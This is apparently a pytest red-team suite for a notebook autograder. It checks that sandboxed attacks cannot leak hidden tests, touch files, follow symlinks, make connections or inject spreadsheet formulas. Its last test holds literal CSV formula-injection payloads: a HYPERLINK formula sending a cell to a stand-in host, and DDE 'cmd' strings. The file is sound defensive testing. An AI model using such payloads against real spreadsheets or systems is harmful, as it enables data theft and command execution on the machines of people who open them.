"""The red-team suite: every attack graded through ``course grade`` in one run (see
``attacks.py``), with the honest submissions of the same run keeping their marks."""

from __future__ import annotations

import ast
import html
from pathlib import Path

import pytest
from attacks import ATTACKS, FULL, HONEST
from redteam import FIXTURES, processes_mentioning

from autograder.core import notebooks as nbk
from autograder.sandbox import bwrap

pytestmark = pytest.mark.slow
SOURCE = FIXTURES / "course" / "source" / "ps1" / "ps1.ipynb"


def test_there_are_enough_attacks_in_every_class():
    assert len(ATTACKS) >= 25
    assert len({a.name for a in ATTACKS}) == len(ATTACKS)
    for threat in ("judge", "read", "write", "resources", "combined", "stop", "link",
                   "spreadsheet"):
        assert sum(a.threat == threat for a in ATTACKS) >= 2, threat


def test_honest_submissions_keep_their_marks(redteam):
    for student, kind in HONEST.items():
        sub = redteam.results[student]
        assert sub.score == (FULL if kind == "full" else 0.0), (student, sub.score, sub.reasons)
        if kind == "full":  # graded in the same run as every attack, untouched by them
            assert all(q.passed for q in sub.questions), sub.questions
            assert sub.reasons == [], sub.reasons


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_attack_earns_only_what_it_implements(redteam, attack):
    sub = redteam.results[attack.name]
    assert sub.score == attack.score, (sub.score, sub.reasons, sub.questions)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_feedback_holds_no_hidden_test_text(redteam, attack):
    hidden = nbk.hidden_test_lines(nbk.read(SOURCE))
    page = redteam.course.feedback / attack.name / "ps1" / "ps1.html"
    text = page.read_text()
    plain = html.unescape(text)
    for line in hidden:
        assert line not in text and line not in plain, line
    assert "BEGIN HIDDEN" not in plain


def without_names(text: str) -> str:
    """``text`` without the attacks' names (one of them says "tampers")."""
    for attack in ATTACKS:
        text = text.replace(attack.name, "")
    return text


def test_nobody_is_accused_and_no_second_phase_is_mentioned(redteam):
    report = html.unescape((redteam.course.reports / "ps1.html").read_text())
    pages = {a.name: html.unescape((redteam.course.feedback / a.name / "ps1" / "ps1.html")
                                   .read_text()) for a in ATTACKS}
    for name, text in [("report", report), *pages.items()]:
        plain = without_names(text).lower()
        assert "tamper" not in plain and "cheat" not in plain, name
        assert "independent check" not in plain and "not confirmed" not in plain, name


def test_no_file_changed_outside_the_sandbox(redteam):
    assert redteam.after == redteam.before
    token = redteam.token
    for path in [Path("/tmp") / f"pwned-{token}", Path.home() / f"pwned-{token}",
                 Path("/var/tmp") / f"pwned-{token}", Path("/dev/shm") / f"pwned-{token}"]:
        assert not path.exists(), path
    assert not list(redteam.tmpdir.rglob("*")), "kernel run directories are removed"


def test_gradebook_was_not_written_by_a_submission(redteam):
    sub = redteam.results["w-course-files"]
    assert sub.score == 0.0
    nb = nbk.read(redteam.course.autograded / "w-course-files" / "ps1" / "ps1.ipynb")
    text = "".join(o.get("text", "") for o in nbk.cell_by_id(nb, "squares").outputs)
    assert "ATTEMPTS:" in text and "WROTE" not in text, text


def test_nothing_of_the_course_is_visible_inside(redteam):
    for student, marker in [("r-read-files", "FOUND:"), ("r-walk-filesystem", "HITS:")]:
        nb = nbk.read(redteam.course.autograded / student / "ps1" / "ps1.ipynb")
        text = "".join(o.get("text", "") for o in nbk.cell_by_id(nb, "squares").outputs)
        assert marker in text, text
        listed = ast.literal_eval(text.split(marker, 1)[1].strip().splitlines()[0])
        # only the read-only Python installation (e.g. nbgrader's own test data), the
        # folders leading to it
        # and the kernel's own run directory (under the grader's TMPDIR)
        allowed = (*[str(p) for p in bwrap.readonly_paths()], str(redteam.tmpdir))
        seen = [p for p in listed
                if not p.startswith(allowed) and not any(a.startswith(p + "/") for a in allowed)]
        assert seen == [], listed
        assert not any(p.startswith(str(redteam.course.root)) for p in listed)


def test_no_process_is_left(redteam):
    assert processes_mentioning(f"marker-{redteam.token}") == []
    assert processes_mentioning(str(redteam.tmpdir)) == []
    # (a kernel's command line names its run directory under the grader's TMPDIR, and
    # forked children keep it; the attacks' own processes carry the marker)


def test_no_connection_was_made(redteam):
    assert redteam.connections == 0


def test_resource_limits_are_reported(redteam):
    reasons = {name: "; ".join(redteam.results[name].reasons)
               for name in ("x-disk-many-files", "x-output-flood")}
    assert "disk limit" in reasons["x-disk-many-files"], reasons
    assert "output beyond" in reasons["x-output-flood"], reasons


# --- round two: nothing stops the class, nothing follows a link, nothing reaches a sheet --
def test_outputs_with_list_text_do_not_stop_the_class(redteam):
    sub = redteam.results["s-list-outputs"]
    assert sub.score == FULL, sub.reasons
    nb = nbk.read(redteam.course.autograded / "s-list-outputs" / "ps1" / "ps1.ipynb")
    outs = nbk.cell_by_id(nb, "squares").outputs
    assert all(isinstance(o.get("text", ""), str) for o in outs), outs
    assert any(o.get("output_type") == "error" and o.ename == "ValueError" for o in outs), outs


def test_a_hidden_marker_in_one_message_does_not_stop_the_feedback(redteam):
    page = redteam.course.feedback / "s-hidden-marker-in-message" / "ps1" / "ps1.html"
    plain = html.unescape(page.read_text())
    assert "BEGIN HIDDEN" not in plain and "END HIDDEN" not in plain
    assert "[hidden test code]" in plain
    pages = list(redteam.course.feedback.glob("*/ps1/ps1.html"))
    assert len(pages) == len(ATTACKS) + len(HONEST)


def test_links_are_never_followed(redteam):
    for attack in [a for a in ATTACKS if a.link]:
        sub = redteam.results[attack.name]
        assert sub.score == 0.0, (attack.name, sub.score)
        assert any("symbolic link: not followed" in r for r in sub.reasons), sub.reasons
        page = html.unescape((redteam.course.feedback / attack.name / "ps1" / "ps1.html")
                             .read_text())
        assert "symbolic link" in page, attack.name
    # the links are still links, and the solution they point at is untouched
    assert (redteam.course.submitted / "l-link-student").is_symlink()


def test_many_empty_files_are_stopped(redteam):
    sub = redteam.results["x-many-empty-files"]
    assert any("file limit of" in r for r in sub.reasons), sub.reasons


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_can_run_as_a_formula(redteam):
    import csv

    root = redteam.course.root
    questions = list(csv.DictReader((root / "questions.csv").open(newline="")))
    mine = {r["known_mistakes"] for r in questions if r["student"].startswith("f-formula")}
    assert "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")" in mine, mine
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in mine and "'-2+3+cmd|' /C calc'!A0" in mine, mine
    assert "'+cmd|' /C calc'!A0" in mine and "'=1+1" in mine, mine
    for name in ("grades.csv", "questions.csv"):
        rows = list(csv.reader((root / name).open(newline="")))
        assert len(rows) > len(ATTACKS), name
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA) or is_number(cell), (name, row)
